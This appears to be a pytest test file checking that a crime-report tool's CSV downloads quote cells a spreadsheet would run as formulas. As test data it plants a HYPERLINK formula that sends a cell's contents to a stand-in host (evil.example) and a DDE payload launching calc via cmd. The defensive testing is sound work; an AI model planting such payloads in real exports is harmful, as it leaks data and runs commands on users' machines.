"""Every CSV download is safe to open in a spreadsheet: a text cell that would run as a formula starts with a
single quote, and numbers stay numbers."""
import csv
import io

import pandas as pd
import pytest

from spcb import cli
from spcb.report import output, pages, tables
from spcb.report.context import PageContext

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
# Plan fields that reach a CSV download, each given a value that a spreadsheet would run.
PLANTED = {
    "{label: Burglary Dwelling,": f"{{label: '{EVIL}',",  # a measure: objective tables and the glance table
    "group_name: Metropolitan forces": f"group_name: '{EVIL}'",  # the comparison's rows and column names
    "lead: ACC Operations": "lead: '@SUM(1+1)'",  # the summary's items table
    "title: Reduce crime and offending": "title: '-1+1 Reduce crime and offending'",  # ditto
    'unit: "% confident"': "unit: \"+cmd|' /C calc'!A0\"",  # a survey table's column name
}


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def read(path) -> list[list[str]]:
    return rows(path.read_bytes().decode("utf-8"))


def runnable(table: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run as a formula: those starting with =, +, -, @, a tab or a carriage
    return, other than numbers and signed figures such as +0.8% or -1,234."""
    def number(cell: str) -> bool:
        try:
            float(cell.replace(",", "").removesuffix("%"))
        except ValueError:
            return False
        return True
    return [cell for row in table for cell in row if cell.startswith(tables.FORMULA) and not number(cell)]


@pytest.fixture
def planted(data, tmp_path):
    """The shipped data folder, with a plan whose titles, leads, labels and units are formulas."""
    folder = tmp_path / "data"
    (folder / "plan").mkdir(parents=True)
    for name in ("store", "narrative", "edition.yml", "about.md"):
        (folder / name).symlink_to(data / name)
    text = (data / "plan" / "2014-15.yml").read_text(encoding="utf-8")
    for shipped, formula in PLANTED.items():
        assert shipped in text, shipped
        text = text.replace(shipped, formula)
    (folder / "plan" / "2014-15.yml").write_text(text, encoding="utf-8")
    return folder


@pytest.fixture
def downloads(monkeypatch, tmp_path, no_charts):
    """The folder the pages write their CSV downloads to (nothing is displayed)."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(output, "display", lambda *args, **kwargs: None)
    monkeypatch.setattr(output, "glue", lambda *args, **kwargs: None)
    return tmp_path / "downloads"


def test_a_text_cell_that_would_run_is_quoted_and_numbers_stay_numbers():
    frame = pd.DataFrame({
        "text": ["=1+1", "+44 121", "-x", "@SUM(A1)", "\tcmd", "\rcmd", "plain", "−735", "'quoted", None],
        "numbers": pd.Series([-735, 0, 12, None, 1, 2, 3, 4, 5, 6], dtype=object),
        "floats": [-9.1, 0.5, -2.0, float("nan"), 1.0, 2.0, 3.0, 4.0, 5.0, 6.0],
        "=SUM(A1)": [True, False, None, True, False, True, False, True, False, True],
    })
    lines = tables.csv_text(frame).splitlines()
    assert lines[0] == "text,numbers,floats,'=SUM(A1)"
    assert lines[1:5] == ["'=1+1,-735,-9.1,True", "'+44 121,0,0.5,False", "'-x,12,-2.0,", "'@SUM(A1),,,True"]
    assert [row[0] for row in rows(tables.csv_text(frame))[5:7]] == ["'\tcmd", "'\ncmd"]  # quoted, on one row
    assert lines[-4:] == ["plain,3,3.0,False", "−735,4,4.0,True", "'quoted,5,5.0,False", ",6,6.0,True"]
    inside = tables.csv_text(pd.DataFrame({"text": ["a\r=1+1", "b\r\n@SUM(A1)"]}))
    assert inside == 'text\n"a\n=1+1"\n"b\n@SUM(A1)"\n'  # no line of the file starts inside a cell
    assert frame["text"][0] == "=1+1"  # the frame shown on the page is left as it was


def test_objective_tables_quote_a_label_and_keep_negative_numbers(planted, downloads):
    pages.objective(PageContext.load(planted, "2014-11", "2014-11-24"), "reduce-crime")
    for name in ("reduce-property-crime",):
        table = read(downloads / f"{name}.csv")
        assert not runnable(table), name
        burglary = next(row for row in table if "HYPERLINK" in row[0])
        assert burglary[:6] == ["'" + EVIL, "milestone", "8045", "7310", "-735", "-2.0"]


def test_summary_glance_and_items_tables_are_quoted(planted, downloads):
    pages.summary(PageContext.load(planted, "2014-11", "2014-11-24"))
    glance, items = read(downloads / "glance.csv"), read(downloads / "items.csv")
    assert not runnable(glance) and not runnable(items)
    assert ["'" + EVIL, "7,310"] == next(row for row in glance if "HYPERLINK" in row[1])[1:3]
    assert "'+0.8% on last year" in [row[3] for row in glance]  # text that starts with a sign is quoted
    assert {row[0] for row in items} >= {"'-1+1 Reduce crime and offending"}
    assert "'@SUM(1+1), quarterly" in [row[3] for row in items]


def test_survey_stop_search_and_audit_tables_are_quoted(planted, downloads):
    ctx = PageContext.load(planted, "2014-11", "2014-11-24")
    ctx._tables["audit"] = ctx.table("audit").assign(category=EVIL)  # a category as the audit file gives it
    pages.objective(ctx, "public-confidence")
    survey = read(downloads / "survey-confidence.csv")
    assert survey[0][3] == "'+cmd|' /c calc'!a0"  # the unit, capitalised as a column name
    audit = read(downloads / "audit.csv")
    assert audit[1][1] == "'" + EVIL
    for name in ("survey-confidence", "survey-safe_day", "survey-safe_dark", "stop-search", "audit"):
        assert not runnable(read(downloads / f"{name}.csv")), name


def test_comparison_tables_are_quoted(planted, downloads):
    pages.comparison(PageContext.load(planted, "2014-11", "2014-11-24"))
    rates, types = read(downloads / "comparison-rates.csv"), read(downloads / "comparison-types.csv")
    assert rates[-1][0] == "'" + EVIL
    assert types[0][3:] == [f"'{EVIL} per 1,000", f"'{EVIL} change"]
    for name in ("comparison-rates", "comparison-types", "comparison-quarters"):
        assert not runnable(read(downloads / f"{name}.csv")), name


def test_provenance_tables_are_quoted(planted, downloads):
    ctx = PageContext.load(planted, "2014-11", "2014-11-24")
    ctx.log = [dict(entry, format=EVIL) for entry in ctx.log]  # as an ingest log naming a strange format
    pages.provenance(ctx, "spcb build", "abc")
    assert {row[1] for row in read(downloads / "provenance-inputs.csv")[1:]} == {"'" + EVIL}
    for name in ("provenance-parameters", "provenance-inputs", "provenance-commentary", "provenance-packages"):
        assert not runnable(read(downloads / f"{name}.csv")), name


def test_spcb_table_csv_is_quoted(planted, capsys):
    assert cli.main(["table", "milestones", "--period", "2014-11", "--as-of", "2014-11-24", "--data", str(planted),
                     "--format", "csv"]) == 0
    table = rows(capsys.readouterr().out)
    assert not runnable(table)
    assert table[1][:5] == ["'" + EVIL, "milestone", "8045", "7310", "-735"]
